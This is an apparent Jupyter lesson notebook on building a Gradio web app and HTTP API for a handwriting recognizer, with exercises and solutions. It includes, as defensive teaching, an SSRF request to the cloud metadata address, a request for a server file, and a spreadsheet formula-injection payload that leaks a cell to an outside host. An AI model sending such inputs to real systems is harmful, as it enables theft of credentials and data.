# ---
# jupyter:
#   kernelspec:
#     display_name: Python 3 (ipykernel)
#     language: python
#     name: python3
# ---

# %% [markdown]
# # A web app and its API with Gradio
#
# **Time:** 125 minutes
#
# **You will learn**
#
# - how a Python function becomes a page that anybody can use, and what its users see when it fails;
# - what a browser and a program send, and what base64 costs;
# - how to call the API by hand: in one step, in two steps with events, with curl and with a client;
# - what happens to an app when many people use it at once, and how it says that it is busy;
# - how to use feedback, and how to protect it;
# - how to test a page, and how to give others access.

# %% tags=["setup"]
# The set-up cell: `lab notebooks build` fills it in.

# %% [markdown]
# ## A model that only you can use
#
# `ParagraphTextRecognizer` can read a page if you have Python, this project and the model file.
# Most people have none of the three, but everyone has a browser, and every program can speak HTTP.
# So we put a web app in front of the model, and every page of handwriting takes the path that
# Figure 1 shows.

# %%
import os

import gradio as gr
from PIL import Image

from lab_utils import figures
from lab_utils.lessons.gradio_app import checks
from lab_utils.lessons.gradio_app import figures as draw
from lab_utils.model import packaged_recognizer
from text_recognizer.errors import RecognizerError
from text_recognizer.places import lab_folder

# %%
os.environ["GRADIO_ANALYTICS_ENABLED"] = "False"  # else Gradio phones home at each launch
os.environ["GRADIO_TEMP_DIR"] = str(lab_folder() / "cache" / "gradio" / "uploads")
recognizer = packaged_recognizer()

# %%
senders = {"a browser": ["a person"], "a program": ["curl, requests"], "gradio_client": ["Python"]}
gradio = {"Gradio": ["page, API, uploads"], "admission": ["few read, some wait"]}
models = {"the model": ["in this process"], "a model service": ["notebook 06"]}
arrows = [(sender, "Gradio") for sender in senders] + [("Gradio", "admission")]
arrows += [("admission", model) for model in models]

# %%
figures.show(
    figures.boxes(senders | gradio | models, arrows, "The path of a page"),
    "Figure 1. How a page reaches the model. Sections 1 to 6 follow these arrows.",
    "A browser, a program and a Python client lead to Gradio, from there to an admission queue, "
    "and on to one of two predictors: the model in this process, or a model service.",
)

# %% [markdown]
# ## 1. A function becomes a page
#
# [Gradio](https://www.gradio.app) makes a web page from a function: you say what goes in and what
# comes out. It makes the form, converts between what a browser sends and what Python wants, and
# starts a server. `type="filepath"` means that the function gets the path of an image file.

# %% tags=["timing"]
PAGE = "data/pages/show_font_007.jpg"
tiny = gr.Interface(
    fn=recognizer.predict,
    inputs=gr.Image(type="filepath", label="Page"),
    outputs=gr.Textbox(label="Text"),
    flagging_mode="never",
)
_ = tiny.launch(share=False, prevent_thread_lock=True, quiet=True, height=420)

# %% [markdown]
# That is a whole web app. Drop a picture of handwriting on it, your own or one from `data/pages`.
# (The stored solutions show no live page; run the cell.) The server lives in a thread of this
# notebook's process: it is gone when the kernel stops, and until then it listens on 127.0.0.1,
# where only this machine can reach it.
#
# Now give it something wrong: press *Submit* without a page. It says "Error" and nothing else.
# Gradio is right to do so: an exception may contain paths, addresses or keys of the server, so
# strangers must not see its text. They see only the text of a `gr.Error`, so you decide which
# errors a user should see. The recognizer has already decided: a `RecognizerError` is a sentence
# for the user, and everything else is a bug.

# %% [markdown]
# ### Exercise 1: The function behind the page (10 minutes)
#
# Difficulty ●●○○○ · Importance ●●●●●
#
# Write the function that the page calls. It takes an image file, and returns the text and a
# one-line summary. The summary gives the number of lines, and how many of them are doubtful, that
# is, have a confidence below `doubtful`: `"3 lines, 1 doubtful"`, `"1 line, 0 doubtful"`, or `"no
# writing found"`. Gradio passes `None` if no image was chosen.
#
# Raise a `gr.Error` with a sentence for everything that the user can fix. Pass
# `print_exception=False`, or each blurred photo leaves a traceback in the server's log. Let all
# other exceptions, which are bugs, pass through.

# %% tags=["exercise"]
from lab_utils.predictors import Predictor


def read_page(path: str | None, predictor: Predictor, doubtful: float = 0.5) -> tuple[str, str]:
    """The text of a page, and a summary for the user.

    Args:
        path: an image file; None if the user chose none.
        predictor: its `read(path)` gives a reading with `text` and `lines`; each line has a
            `confidence`. Reading takes a second, so call it once.
        doubtful: lines with a confidence below this are doubtful.

    Raises:
        gr.Error: no image was chosen, or the predictor raised a RecognizerError.
    """
    ### BEGIN SOLUTION
    if path is None:
        raise gr.Error("Choose an image first.", print_exception=False)
    try:
        reading = predictor.read(path)
    except RecognizerError as error:
        raise gr.Error(str(error), print_exception=False) from None
    count = len(reading.lines)
    if count == 0:
        return "", "no writing found"
    few = sum(line.confidence < doubtful for line in reading.lines)
    return reading.text, f"{count} line{'s' if count > 1 else ''}, {few} doubtful"
    ### END SOLUTION


# %% tags=["check"]
checks.read_page(read_page)

# %% [markdown]
# <details><summary>Hint</summary>
#
# Look at `path` first. Then put the call of `predictor.read`, and only that, between `try` and
# `except RecognizerError as error`. `str(error)` is the sentence. In Python, `True` counts as 1, so
# `sum` counts the lines for which a comparison is true.
#
# </details>

# %% [markdown]
# Before you run it: with a higher threshold, are there more doubtful lines or fewer?

# %%
from text_recognizer.overlay import DOUBTFUL

for doubtful in (0.5, DOUBTFUL):
    text, summary = read_page(PAGE, recognizer, doubtful)
    print(f"doubtful below {doubtful}: {summary}")
print(text)

# %% [markdown]
# Are the doubtful lines really wrong, and the others right? A high threshold makes people check
# lines that are right; a low one lets wrong lines pass. The best threshold depends on what a check
# costs. The app uses the second threshold, `DOUBTFUL`: a wrong line that nobody checks costs more
# than checking a line that is right.
#
# The page calls its function with the inputs of the form, and knows nothing about predictors, so
# `functools.partial` fills in that argument. And `gr.Interface` decides for you what the page looks
# like, and by what name programs call the function. With `gr.Blocks`, you decide.

# %% [markdown]
# ### Exercise 2: Your own page (15 minutes)
#
# Difficulty ●●○○○ · Importance ●●●●●
#
# Build a page with `gr.Blocks`: an image input that gives `read` the path of a file, a button, a
# text box for the text and a second one for the summary. A click on the button calls `read`.
# Programs call the same function through its **endpoint**. Name it with `api_name="read_page"` in
# the click: a name that you chose doesn't change when you rename the function.

# %% tags=["exercise"]
from collections.abc import Callable


def build_page(read: Callable[[str | None], tuple[str, str]]) -> gr.Blocks:
    """A page that calls a function, with the endpoint "read_page"; it is not launched.

    Args:
        read: takes the path of an image file, or None, and returns the text and a summary.
    """
    ### BEGIN SOLUTION
    with gr.Blocks() as page:
        image = gr.Image(type="filepath", label="Page")
        button = gr.Button("Read")
        text, summary = gr.Textbox(label="Text"), gr.Textbox(label="Summary")
        button.click(read, image, [text, summary], api_name="read_page")
    return page
    ### END SOLUTION


# %% tags=["check"]
checks.build_page(build_page)

# %% [markdown]
# <details><summary>Hint</summary>
#
# Components that you make inside `with gr.Blocks() as page:` appear on the page, in that order.
# `gr.Image` takes `type="filepath"`, as above. A button has `click(function, inputs, outputs,
# api_name=...)`; the outputs are a list with one component for each value that `read` returns. Call
# `click` inside the `with` block, too.
#
# </details>

# %% [markdown]
# Press *Read* without a page: now it says what to do. The second cell below calls the endpoint as a
# program would, with Gradio's own client. Before you run it: which of the two text boxes comes
# first in the answer?

# %% tags=["timing"]
from functools import partial

tiny.close(verbose=False)
tiny = build_page(partial(read_page, predictor=recognizer))
_, tiny_url, _ = tiny.launch(share=False, prevent_thread_lock=True, quiet=True, height=420)

# %%
from gradio_client import Client, handle_file

text, summary = Client(tiny_url, verbose=False).predict(handle_file(PAGE), api_name="/read_page")
print(summary, "and the text starts with", text.split("\n")[0])

# %% [markdown]
# A **predictor** is any object with `predict(image)` and `read(image)`; the recognizer is one. The
# web page needs nothing else, which pays off in section 6.

# %% [markdown]
# ## 2. How a picture is sent
#
# A page is a form, and forms send text or files. The browser *uploads* the file first, byte by
# byte, and then sends a small JSON message with the name that the server gave it. A program that
# wants to do all this in one request must put the picture into the JSON. JSON is text and can't
# hold raw bytes, so **base64** writes the bytes as text: it splits three bytes (24 bits) into four
# groups of six bits, and has one character for each of the 64 values that a group can have.

# %%
import base64

bits = "".join(f"{byte:08b}" for byte in b"Hi!")
groups = [bits[start : start + 6] for start in range(0, 24, 6)]
print("3 bytes:     ", *[bits[start : start + 8] for start in range(0, 24, 8)])
print("4 groups:    ", *groups)
print("their values:", *[int(group, 2) for group in groups])
print("base64:      ", *base64.b64encode(b"Hi!").decode())

# %% [markdown]
# Before you run it: how much longer is a picture in base64, and does that depend on the picture?

# %%
from pathlib import Path

rows = []
for name in ("show_font_004.jpg", "show_font_007.jpg", "show_font_014.jpg"):
    photo = Path("data/pages", name).read_bytes()
    characters = len(base64.b64encode(photo))
    rows.append([name, len(photo), characters, round(characters / len(photo), 3)])
columns = ["page", "bytes", "characters in base64", "ratio"]
figures.show_table(rows, columns, "Table 1. What base64 costs: a third more, whatever the picture.")

# %% [markdown]
# That is a third more to send, and both sides hold the text and the bytes in memory at once. For
# pages of about 100 kB that does not matter; for videos it would.
#
# The text by itself does not say what it is. A **data URI** does: `data:`, the type of the data
# (its *MIME type*), `;base64,`, and the text. A file name may be wrong about the type, but the
# bytes show it: each format has its own first bytes.
#
# | bytes | format | MIME type |
# |---|---|---|
# | start with `89 50 4E 47` (hexadecimal) | PNG | `image/png` |
# | start with `FF D8 FF` | JPEG | `image/jpeg` |
# | start with `GIF8` | GIF | `image/gif` |
# | start with `RIFF`, and bytes 8 to 11 are `WEBP` | WebP | `image/webp` |

# %% [markdown]
# ### Exercise 3: The body of a request (10 minutes)
#
# Difficulty ●●○○○ · Importance ●●●○○
#
# Gradio's API takes a JSON object with the list `data`: one value for each input of the form. The
# value of an image input is an object, and its `url` may be a data URI: `{"data": [{"url":
# "data:image/png;base64,iVBOR..."}]}`. Return this object for the bytes of an image; the bytes tell
# you the type. For bytes of any other kind, raise `RecognizerError` with a sentence.

# %% tags=["exercise"]
import base64


def predict_body(image: bytes) -> dict:
    """The request's body, ready for `json.dumps`.

    Raises:
        RecognizerError: the bytes are not a PNG, JPEG, GIF or WebP image.
    """
    ### BEGIN SOLUTION
    starts = {b"\x89PNG": "png", b"\xff\xd8\xff": "jpeg", b"GIF8": "gif"}
    kind = next((kind for start, kind in starts.items() if image.startswith(start)), None)
    if image[:4] == b"RIFF" and image[8:12] == b"WEBP":
        kind = "webp"
    if kind is None:
        raise RecognizerError("Only PNG, JPEG, GIF and WebP images are sent; convert this one.")
    text = base64.b64encode(image).decode()
    return {"data": [{"url": f"data:image/{kind};base64,{text}"}]}
    ### END SOLUTION


# %% tags=["check"]
checks.predict_body(predict_body)

# %% [markdown]
# <details><summary>Hint</summary>
#
# `bytes` has `startswith`, and `b"\x89PNG"` is the four bytes in the table's first row. Of the
# functions in `base64`, one makes plain base64 without line breaks; it gives bytes, and `.decode()`
# makes them a `str`. A WAV sound file also starts with `RIFF`.
#
# </details>

# %%
photo = Path(PAGE).read_bytes()
body = predict_body(photo)
print(body["data"][0]["url"][:60], "...")

# %% [markdown]
# ## 3. An API
#
# From here on you use the lab's own app. It is also made with Gradio. It adds a canvas to write on,
# shows the lines that it found, takes feedback, and has limits. `make_frontend` takes a predictor
# and returns the app. Run the cell, and read a page.

# %% tags=["timing"]
from lab_utils.app import make_frontend

FEEDBACK = lab_folder() / "notebooks" / "05" / "feedback"
frontend = make_frontend(recognizer, flagging_dir=FEEDBACK)
_, url, _ = frontend.launch(inline=True, height=1000)

# %%
figures.show(
    Image.open("data/pictures/app_wide.png"),
    "Figure 2. The app in a wide window, after a page was read.",
    "At the left a page of handwriting in a form with a button; at the right its text, a line that "
    "says how long it took, and the page with a numbered stroke through each line.",
    width=820,
)

# %% [markdown]
# The page does everything through requests, and other programs can send the same requests. The
# functions that they may call are the **endpoints**. The app describes them:

# %%
import json
import urllib.request

with urllib.request.urlopen(url + "gradio_api/info") as response:
    endpoints = json.load(response)["named_endpoints"]
rows = [
    [name, one["parameters"][0]["python_type"]["type"], one["description"]]
    for name, one in endpoints.items()
]
columns = ["endpoint", "takes", "description"]
figures.show_table(rows, columns, "Table 2. What /gradio_api/info says of the app.")

# %% [markdown]
# These names are a promise. Renaming `/predict` breaks programs that you have never heard of, so
# choose each endpoint's name yourself (`api_name`); otherwise Gradio takes the function's.
#
# A call in one step is a POST to `/gradio_api/run/` followed by the endpoint's name. The answer is
# also a JSON object with a list `data`: one value for each output. If something is wrong, the
# **status** (the number at the start of each HTTP answer) says roughly what, and the body says the
# rest:
#
# | status | body | meaning |
# |---|---|---|
# | 200 | `{"data": ["the text"], ...}` | here it is |
# | 422, 413, 500, 503 | `{"error": "a sentence"}` | this app says what is wrong |
# | 500 | `{"error": null}` | a Gradio app failed and gives no reason |
# | 502, 504, any other | a page in HTML, or nothing | something between you and the app answered |
# | 200 | a page in HTML | a log-in page, a hotel's Wi-Fi, the wrong address |
#
# Only the first row holds a text. A client must never take any of the other answers for a text, or
# show its user a traceback from a JSON parser.

# %% [markdown]
# ### Exercise 4: Call the API by hand (15 minutes)
#
# Difficulty ●●●○○ · Importance ●●●●○
#
# Post a body as JSON and return the text from the answer, `data[0]`. From status 400 on, raise
# `RecognizerError`: with the answer's own sentence if `error` holds one, otherwise with a sentence
# of your own that names the status. Also raise `RecognizerError` if there is no server, no answer
# within `timeout` seconds, or the reply isn't a valid answer: it isn't HTTP, breaks off, isn't
# JSON, or `data[0]` isn't a text.

# %% tags=["exercise"]
import json
import urllib.error
import urllib.request
from http.client import HTTPException


def ask(url: str, body: dict, timeout: float = 30.0) -> str:
    """The text that an endpoint answers with; it is "" for a blank page.

    Args:
        url: of the endpoint.
        body: what is sent, as JSON; the header Content-Type says `application/json`.
        timeout: s to wait for the server.

    Raises:
        RecognizerError: no text came back.
    """
    ### BEGIN SOLUTION
    unfit = (ValueError, LookupError, TypeError)
    header = {"Content-Type": "application/json"}
    request = urllib.request.Request(url, json.dumps(body).encode(), header)
    try:
        with urllib.request.urlopen(request, timeout=timeout) as response:
            text = json.load(response)["data"][0]
    except urllib.error.HTTPError as error:
        try:
            sentence = json.load(error)["error"]
        except (*unfit, OSError, HTTPException):
            sentence = None
        raise RecognizerError(sentence or f"The app answered with status {error.code}.") from None
    except (OSError, HTTPException):
        raise RecognizerError("The app does not answer; check that it runs.") from None
    except unfit:
        text = None
    if not isinstance(text, str):
        raise RecognizerError("What answers is not the app; check the address.")
    return text
    ### END SOLUTION


# %% tags=["check"]
checks.ask(ask)

# %% [markdown]
# <details><summary>Hint</summary>
#
# `urllib.request.Request(url, data, headers)` with `data` (bytes) is a POST; `urlopen` takes it and
# a `timeout`. From status 400 on it raises `urllib.error.HTTPError`, which can be read like the
# answer that it is, and has a `code`. `HTTPError` is an `OSError`, like every failure of the
# network, so catch it first. An answer that isn't HTTP, or that breaks off, raises
# `http.client.HTTPException`. `json.load` raises `ValueError`; if something is missing in an
# answer, you get `KeyError`, `IndexError` (both are `LookupError`s) or `TypeError`. JSON's `null`
# is `None`.
#
# </details>

# %%
RUN = "gradio_api/run/predict"
print(ask(url + RUN, predict_body(photo)))

# %% [markdown]
# The same text as in exercise 1, this time over HTTP. (Your first app may have read a letter
# differently: Gradio's image input re-encodes a picture before the function gets it. The lab's app
# passes the bytes on unchanged.)
#
# Now four wrong requests: half a photo, nothing at all, an address, and a file on the server.
# Before you run the second cell: which of them does the app refuse, and why?

# %%
wrong = {
    "half a photo": predict_body(photo[: len(photo) // 2]),
    "nothing": {"data": [None]},
    "an address": {"data": [{"url": "http://169.254.169.254/latest/meta-data/"}]},
    "a file on the server": {"data": [{"path": "/etc/hostname"}]},
}

# %%
for name, sent in wrong.items():
    try:
        print(f"{name}: read as {ask(url + RUN, sent)!r}")
    except RecognizerError as error:
        print(f"{name}: {error}")

# %% [markdown]
# The last two are attacks. A server that fetches any address fetches those that only *it* can reach
# (the one above is where clouds keep a machine's keys), and a server that opens any path hands out
# its files. Gradio's own image input fetches addresses; the lab's app refuses them before Gradio
# sees them, as it refuses requests of more than 28 MB before they are decoded
# ([`middleware.py`](../lab_utils/middleware.py), [`routes.py`](../lab_utils/app/routes.py)).
#
# Other clients send the same request. `curl` takes the body from a file:

# %%
Path(".lab/body.json").write_text(json.dumps(predict_body(photo)))
# !curl -sS {url}{RUN} -H "Content-Type: application/json" -d @.lab/body.json > .lab/answer.json
print(json.loads(Path(".lab/answer.json").read_text())["data"])

# %% [markdown]
# With the package `requests` it is this:
#
# ```python
# import requests
#
# answer = requests.post(url + RUN, json=predict_body(photo), timeout=30)
# answer.raise_for_status()
# print(answer.json()["data"][0])
# ```
#
# If even a data URI is too much work, say in a shell script or on a microcontroller, use the second
# endpoint, which takes plain base64 as a string:

# %%
bare = {"data": [base64.b64encode(photo).decode()]}
print(ask(url + "gradio_api/run/predict_base64", bare).split("\n")[0], "...")

# %% [markdown]
# ## 4. The API in two steps, with a stream of events
#
# One step has a weakness: the connection is silent while the page is read. A second of silence is
# no problem, but a minute is: proxies close silent connections, and the client can't know whether
# the app is still working. So Gradio's page calls in two steps, and so can you. The first request
# sends the page and gets an **event id** at once. The second one receives the events.
#
# | | one step | two steps |
# |---|---|---|
# | the client sends | `POST run/predict` with the page | `POST call/predict` with the page |
# | the app answers | | an event id, at once |
# | the client sends | | `GET call/predict/ID` |
# | while the app reads | silence | a heartbeat now and then |
# | at the end | the text | the event `complete` with the text |

# %%
CALL = url + "gradio_api/call/predict"


def events(body: dict) -> list[bytes]:
    """The lines that the app sends about a call in two steps."""
    header = {"Content-Type": "application/json"}
    request = urllib.request.Request(CALL, json.dumps(body).encode(), header)
    with urllib.request.urlopen(request) as response:
        event_id = json.load(response)["event_id"]
    with urllib.request.urlopen(f"{CALL}/{event_id}") as stream:
        return stream.readlines()


# %%
for line in events(predict_body(photo)) + events(wrong["half a photo"]):
    print(line)

# %% [markdown]
# These are **server-sent events**, a plain text format of the web (WHATWG HTML, section 9.2). A
# line `event:` names the kind, a line `data:` holds JSON, and an empty line ends the event. There
# are four kinds:
#
# | event | data | meaning |
# |---|---|---|
# | `heartbeat` | `null` | still working; sent every 15 s |
# | `generating` | a list | an intermediate result (of functions that `yield`) |
# | `complete` | a list | the result, and the end |
# | `error` | `{"error": "a sentence"}`, `{"error": null}`, or `null` | also the end |
#
# Note the status: 200, even for the error. It was sent before the app knew how the call would end.

# %% [markdown]
# ### Exercise 5: Follow the events (15 minutes)
#
# Difficulty ●●●○○ · Importance ●●●○○
#
# Follow a stream of lines and return the data of the event `complete`, as soon as that event is
# whole: the connection may stay open. At the event `error`, raise `RecognizerError` with its
# sentence, or with one of your own if it has none. A stream that ends without either of them is
# also an error: the app was stopped, or the network failed.

# %% tags=["exercise"]
import json
from collections.abc import Iterable


def final_data(stream: Iterable[bytes]) -> list:
    """The data of the event `complete`.

    Args:
        stream: lines with their ends, which are `\\n` or `\\r\\n`, as a response gives them.

    Raises:
        RecognizerError: the call failed, or the stream ended too early.
    """
    ### BEGIN SOLUTION
    event, data = "", ""
    for line in stream:
        name, _, value = line.decode().rstrip("\r\n").partition(": ")
        if name == "event":
            event = value
        elif name == "data":
            data = value
        elif not name and event == "complete":
            return json.loads(data)
        elif not name and event == "error":
            document = json.loads(data or "null")
            sentence = document.get("error") if isinstance(document, dict) else None
            raise RecognizerError(sentence or "The app could not read this page.")
    raise RecognizerError("The stream ended before the text came; ask once more.")
    ### END SOLUTION


# %% tags=["check"]
checks.final_data(final_data)

# %% [markdown]
# <details><summary>Hint</summary>
#
# Keep two variables, the event's name and its data, and go through the lines. `b"event: x"` sets
# the first and `b"data: y"` the second; at an empty line the event is whole, so look at its name.
# `str.partition(": ")` splits a line at the *first* colon only; texts have colons, too.
#
# </details>

# %%
print(final_data(events(predict_body(photo)))[0].split("\n")[0], "...")
try:
    final_data(events(wrong["half a photo"]))
except RecognizerError as error:
    print(error)

# %% [markdown]
# In Python you don't have to write this yourself. `gradio_client` uploads the file, calls in two
# steps, follows the events and converts what comes back, for any Gradio app:

# %%
from gradio_client import Client, handle_file

client = Client(url, verbose=False, analytics_enabled=False)
print(client.predict(handle_file(PAGE), api_name="/predict").split("\n")[0], "...")
client.close()

# %% [markdown]
# Which one should you use? One step for short calls, since it is a single request; two steps for
# calls that may take long; the client if you write Python.

# %% [markdown]
# ## 5. Many users at once: the queue
#
# A page takes a few tenths of a second on two cores. If eight people come at once, the worst answer
# is to serve them all at the same time: memory for eight pages, and each reading takes eight times
# as long. Gradio has a **queue** for that: `concurrency_limit` says how many calls of a function
# run at once (by default 1), and `queue(max_size=...)` how many may wait. Which calls does that
# apply to? Here is a function that takes as long as you say, behind a plain Gradio app with a limit
# of one, and six programs that call it in one step. Before you run the last of the three cells: how
# many of the six calls start at once?

# %%
import queue
import threading
from concurrent.futures import ThreadPoolExecutor, as_completed
from itertools import islice
from types import SimpleNamespace

# %%
QUIETLY = {"share": False, "prevent_thread_lock": True, "quiet": True, "inline": False}
started, release = queue.Queue(), threading.Event()


def held(image: object) -> str:
    """Reads nothing, and waits until it is released."""
    started.put(image)
    release.wait(60)
    return "read"


# %%
plain = gr.Interface(held, gr.Image(), "text", api_name="predict", flagging_mode="never")
_, plain_url, _ = plain.queue(max_size=1, default_concurrency_limit=1).launch(**QUIETLY)
with ThreadPoolExecutor(6) as users:
    answers = [users.submit(ask, plain_url + RUN, predict_body(photo)) for _ in range(6)]
    for _ in answers:
        started.get(timeout=60)
    print("6 calls: all have started, and none has ended")
    release.set()

# %% [markdown]
# All six ran at once, despite a limit of one and a queue of one. Only `/call` and the page go
# through the queue; **`/run` bypasses it**. `queue(api_open=False)` closes `/run`, but then the
# simple call is gone. The lab's app has one admission queue behind both
# ([`admission.py`](../lab_utils/app/admission.py)): it reads a fixed number of pages at once, lets
# a fixed number wait in order, and refuses the rest. Before you run the second cell: with two
# readers and two places in the queue, how many of six calls are refused, and are they refused early
# or late?

# %%
from text_recognizer.paragraph_text_recognizer import PageReading


def held_reading(image: object) -> PageReading:
    """What the app gets from a predictor: here, a page with one word and no lines."""
    return PageReading(held(image), lines=[], seconds=0.0, width=640, height=480)


# %%
release.clear()
small = make_frontend(SimpleNamespace(read=held_reading), readers=2, queue_size=2)
_, small_url, _ = small.launch(inline=False)
with ThreadPoolExecutor(6) as users:
    answers = [users.submit(ask, small_url + RUN, predict_body(photo)) for _ in range(6)]
    for refused in islice(as_completed(answers), 2):
        print(refused.exception())
    release.set()
print(sum(answer.exception() is None for answer in answers), "of 6 were read")

# %% [markdown]
# Two were read at once, two waited, and two were refused in milliseconds, with status 503 ("later")
# and a header `Retry-After` that says when. A refusal sounds unfriendly, but a queue without a
# limit is worse: everyone waits longer than they are willing to, and the app reads pages for people
# who have left.

# %%
print(ask(small_url + RUN, predict_body(photo)), "(and afterwards it works as before)")
small.close()
plain.close(verbose=False)

# %% [markdown]
# ## 6. Blank pages are not worth reading
#
# Someone points a camera at a desk and sends a picture every second. Most of them show an empty
# desk. The recognizer correctly reads nothing there, but each picture takes as long as a page, and
# a model service that is paid per request costs money. So check first. But be careful: a check that
# is too strict refuses faint pencil, and the person who wrote it won't know what to do. Reading a
# blank page costs half a second; refusing a real page costs you a user.

# %% [markdown]
# ### Exercise 6: Detect a blank page (15 minutes)
#
# Difficulty ●●●○○ · Importance ●●○○○
#
# Say whether a page is blank. Photos of empty paper differ in their light (some have a shadow), in
# the colour of the paper, and in grain, the noise of the camera. Writing may be faint, there may be
# little of it, and chalk is *lighter* than the board. But only writing has pixels that differ from
# their surroundings by far more than the grain.


# %% tags=["exercise"]
import numpy as np
from PIL import Image, ImageFilter


def is_blank(page: Image.Image) -> bool:
    """Whether there is no writing on a page; False if in doubt.

    Args:
        page: mode "L", 0 black to 255 white; it is not changed.
    """
    ### BEGIN SOLUTION
    levels = np.asarray(page, dtype=float)
    around = np.asarray(page.filter(ImageFilter.BoxBlur(15)), dtype=float)
    difference = abs(levels - around)
    grain = np.median(difference)  # most of a page is paper
    strokes = difference > max(8 * grain, 6)
    return bool(strokes.mean() < 0.0005)
    ### END SOLUTION


# %% tags=["check"]
checks.is_blank(is_blank)

# %% [markdown]
# <details><summary>Hint</summary>
#
# `page.filter(ImageFilter.BoxBlur(15))` gives each pixel the mean of its neighbourhood, which
# follows the light. Look at how far each pixel is from that, in either direction. Most pixels are
# paper, so the *median* of these distances is the grain. A pixel is part of a stroke if its
# distance is several times the grain, and at least a few gray levels. A page is blank if almost
# none of its pixels are part of a stroke.
#
# </details>

# %% [markdown]
# Before you run it: which of the five photos will your function call blank?

# %%
pages = draw.photos(Image.open("data/pages/show_font_008.jpg"))
figures.show(
    draw.judged(pages, [is_blank(page) for page in pages.values()]),
    "Figure 3. A page and its empty back in different light, and what is_blank says of each.",
    "Three photos with writing, clear, faint and half in a shadow, and two of empty paper, one of "
    "them half in a shadow, each with its verdict.",
    width=780,
)

# %% [markdown]
# Where does this check belong? Not in the page, because the API would bypass it, and not in the
# recognizer, which has another job. It fits *between* them: a predictor that asks another one.

# %%
from text_recognizer.images import ImageSource, load_image


def refuse_blank(image: ImageSource) -> None:
    """Raises RecognizerError for a page on which there is nothing."""
    if is_blank(load_image(image).page):
        raise RecognizerError("There is nothing on this page; go closer, or use a darker pen.")


# %%
class NoBlankPages:
    """A predictor that asks another one only if there may be something to read."""

    def __init__(self, inner: Predictor) -> None:
        self.inner = inner

    def predict(self, image: ImageSource) -> str:
        return refuse_blank(image) or self.inner.predict(image)

    def read(self, image: ImageSource) -> PageReading:
        return refuse_blank(image) or self.inner.read(image)


# %%
import io

careful = make_frontend(NoBlankPages(recognizer))
_, careful_url, _ = careful.launch(inline=False)
for name in ("back, shadow", "page, faint"):
    file = io.BytesIO()
    pages[name].save(file, "PNG")
    try:
        print(f"{name}:", ask(careful_url + RUN, predict_body(file.getvalue())).split("\n")[0])
    except RecognizerError as error:
        print(f"{name}:", error)

# %% [markdown]
# Anything that neither the page nor the model needs to know about fits here: a cache, a counter, a
# second model for comparison. The model can also move out. `RemotePredictor(url)` has the same two
# methods and sends the page to a model service, perhaps on another machine with a GPU. It retries
# if that helps, and says so if nothing answers:

# %%
from lab_utils.predictors import RemotePredictor

far = RemotePredictor("http://127.0.0.1:9", retries=1)
try:
    far.predict(PAGE)
except RecognizerError as error:
    print(error)

# %% [markdown]
# `make_frontend(far)` is the app in front of it; from the command line, `lab app --model-url
# ADDRESS`. App and model then start, fail and scale separately; [notebook
# 06](06_model_service.ipynb) shows how.

# %% [markdown]
# ## 7. Feedback: "Wrong? Tell us"
#
# The most useful readings are those that went wrong for real people, and only they know which ones.
# So the page has a form: *Wrong? Tell us*. Gradio has one built in, called **flagging**
# (`flagging_mode="manual"`), which adds a line to a CSV file. But if a page is flagged through the
# API, the whole data URI goes into the CSV, and no spreadsheet opens cells of a megabyte. So the
# lab's app stores feedback itself ([`feedback.py`](../lab_utils/app/feedback.py)): the image is a
# file, named by its SHA-256, and the table holds this name. And what people type is later opened in
# a spreadsheet, where a cell that starts with `=` is a formula. Before you run the second cell: how
# many images will the folder hold, and what will become of the formula?

# %%
import csv
import shutil

from lab_utils.app.feedback import FeedbackFolder

DEMO = FEEDBACK.with_name("demo")  # what you sent through the page stays where it is
shutil.rmtree(DEMO, ignore_errors=True)
feedback = FeedbackFolder(DEMO)

# %%
right = "was the age of\nwisdom, it\nwas the age of\nfoolishness,"
reading = right.replace("foolishness", "foolrstness")  # suppose it was read like this
feedback.add(photo, reading, corrected=right)
feedback.add(photo, reading, corrected='=HYPERLINK("http://example.com/?" & A1, "a prize")')
with feedback.table.open(newline="") as file:
    rows = [[row[1][:8], *row[2:]] for row in csv.reader(file)]
figures.show_table(
    rows[1:], rows[0], "Table 3. What the file holds (times left out, names shortened)."
)
print("images:", len(list((DEMO / "images").iterdir())))

# %% [markdown]
# Two rows, and one image, since equal bytes have equal names. The formula got an apostrophe, which
# makes it text.
#
# What is feedback good for?
#
# - **Finding** kinds of pages that fail: sort by what is wrong before you collect more of it.
# - **Evaluating**: a page with its corrected text is a labelled example. But flagged pages are not
#   a random sample of all pages: an error rate on them says nothing about the others.
# - **Training**, after someone has checked them: people correct carelessly, and some as a joke.
#
# Feedback needs protection. Handwriting is personal: it shows who wrote, and often to whom. Say
# beside the button what is kept and why; keep nothing that was not sent for this purpose; limit its
# size (500 MiB in this folder), date it, and delete it. Anyone can fill in a public form, so trust
# nothing in it: not as a formula, not as a file name, not as a label.

# %% [markdown]
# ## 8. Test the page
#
# A page is a program, and it is tested like one, from the outside. The smallest test starts the
# app, asks for the page, and expects status 200. It finds more than you might think: a missing
# package, a wrong argument, a port that is taken, a model that does not load.

# %%
with urllib.request.urlopen(url) as response:
    print(response.status, response.headers.get_content_type())

# %% [markdown]
# But a page that loads may still show nothing. What a user sees is made by JavaScript, which only a
# browser runs. **Playwright** drives one without a window: it finds elements by what people see or
# by an id, and waits until they are there. Here is such a test; the lab's own are in
# [`test_app_browser.py`](../tests/test_app_browser.py).
#
# ```python
# from playwright.sync_api import expect, sync_playwright
#
# with sync_playwright() as playwright:
#     browser = playwright.chromium.launch()
#     page = browser.new_page()
#     page.goto(url)
#     page.locator("#image input[type=file]").set_input_files(PAGE)
#     page.get_by_role("button", name="Read the picture").click()
#     expect(page.locator("#text")).to_contain_text("wisdom, it", timeout=20_000)
#     page.screenshot(path="app.png")
#     browser.close()
# ```
#
# So there are three layers, and each finds what the one before it can't: the function (exercise 1,
# fast, all cases), the API (a few requests, as in section 3), the page (one or two ways through
# it). If you test all cases in a browser, you wait for minutes and repair tests for days.

# %% [markdown]
# ## 9. Let others in
#
# So far only you can reach the app. The command line starts the same one:
#
# ```sh
# lab app
# LAB_APP_AUTH=anna:long-password lab app --port 8080 --queue-size 8
# ```
#
# - **To try it**, do nothing: `server_name` is 127.0.0.1, and only this machine can reach it.
# - **To show it for an hour**, launch with `share=True`: Gradio gives it a public address for a
#   week at most, through one of its servers. Everybody who has the address can use the app.
# - **To show it on Colab**, launch with `share=False` and see it in the notebook. By default,
#   Gradio sets `share` to true on Colab; the lab's app doesn't.
# - **To let a few people use it**, add `auth=("anna", "a long password")`, and HTTPS in front of
#   it; otherwise the password travels in clear text. You can't revoke a shared password for just
#   one person.
# - **To let many use it**, put the model into a separate service
#   ([notebook 06](06_model_service.ipynb)) and the app on a real host.
#
